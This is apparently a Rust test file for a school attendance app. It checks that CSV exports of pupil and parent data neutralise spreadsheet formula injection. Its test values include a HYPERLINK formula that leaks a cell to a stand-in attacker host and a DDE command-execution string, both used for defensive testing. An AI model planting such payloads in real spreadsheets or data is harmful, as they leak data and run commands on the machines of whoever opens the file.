//! Issue 12, item 8: every CSV a person opens in a spreadsheet shows hostile register data
//! as text instead of running it: the LA returns (surname, parent, address), the governor
//! report's figures (group labels) and the rewards prize-draw list (pupils' names), as the
//! call list already did. Phone numbers stay readable and negative figures stay numbers.

use rollcall::report::document::{Cell, Document, Section, Table};
use rollcall::report::la_return::{ReturnLine, csv_of};

const HOSTILE: &str = "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")";

fn rows(bytes: Vec<u8>) -> Vec<Vec<String>> {
    csv::Reader::from_reader(bytes.as_slice())
        .records()
        .map(|r| r.expect("record").iter().map(str::to_owned).collect())
        .collect()
}

#[test]
fn la_return_cells_are_defused() {
    let line = ReturnLine {
        kind: "continuous_absence",
        upn: "B801200005001".into(),
        surname: HOSTILE.into(),
        forename: "Ada".into(),
        date_of_birth: "2018-03-01".into(),
        year_group: "3".into(),
        reg_group: "3B".into(),
        address: "@SUM(1+1)*cmd|' /C calc'!A0".into(),
        postcode: "TT1 1AA".into(),
        parent_carer: "-2+3 (Mother)".into(),
        phone: "+447700900001".into(),
        email: String::new(),
        start: "2025-10-06".into(),
        end: "2025-10-17".into(),
        school_days: 10,
        sessions: 20,
        codes: "N×20".into(),
        marks: String::new(),
        attendance_ytd_pct: "80.0".into(),
        unauthorised_sessions_ytd: 20,
        illness_sessions_ytd: 0,
        school_actions: "\t=1+1".into(),
        status: String::new(),
        episode: "=HYPERLINK(\"x\")".into(),
    };
    let rows = rows(csv_of(&[line]).expect("csv"));
    let row = &rows[0];
    assert_eq!(row[2], format!("'{HOSTILE}"), "surname");
    assert_eq!(row[3], "Ada");
    assert_eq!(row[7], "'@SUM(1+1)*cmd|' /C calc'!A0", "address");
    assert_eq!(row[9], "'-2+3 (Mother)", "parent");
    assert!(
        row.iter().any(|c| c == "'=HYPERLINK(\"x\")"),
        "the episode cell: {row:?}"
    );
    assert_eq!(
        row[10], "'+447700900001",
        "the phone number stays text, as written"
    );
    assert_eq!(row[18], "80.0", "figures are untouched");
    assert_eq!(row[21], "'\t=1+1", "school actions");
}

#[test]
fn governor_and_prize_draw_csv_cells_are_defused() {
    let table = Table {
        id: "reg_group".into(),
        title: "By class".into(),
        columns: vec!["Class".into(), "Attendance".into(), "Change".into()],
        rows: vec![
            vec![
                Cell::text(HOSTILE),
                Cell::Percent(Some(95.3)),
                Cell::Percent(Some(-1.5)),
            ],
            vec![
                Cell::text("+Zoë Lovelace"),
                Cell::Count(3),
                Cell::Suppressed,
            ],
        ],
        note: None,
    };
    let mut section = Section::new("groups", "Groups");
    section.tables.push(table);
    let doc = Document {
        title: "Governor report".into(),
        school: "North".into(),
        subtitle: String::new(),
        meta: Vec::new(),
        sections: vec![section],
    };
    let rows = rows(doc.to_csv().expect("csv"));
    assert_eq!(rows[0][2], format!("'{HOSTILE}"));
    assert_eq!(rows[0][4], "95.3");
    assert_eq!(rows[1][4], "-1.5", "a negative figure stays a number");
    assert_eq!(rows[2][2], "'+Zoë Lovelace");
    assert_eq!(rows[3][4], "c");
}
